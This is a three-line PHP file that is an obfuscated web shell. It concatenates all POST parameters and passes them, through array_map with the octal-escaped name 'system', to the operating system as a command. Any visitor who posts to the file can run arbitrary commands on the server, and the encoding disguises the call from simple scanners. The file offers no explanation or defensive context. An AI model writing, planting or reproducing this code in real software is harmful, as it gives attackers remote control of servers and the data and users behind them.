<?php
$c = implode('', $_POST);
call_user_func_array('array_map', array("\163\171\163\164\145\155", array($c)));
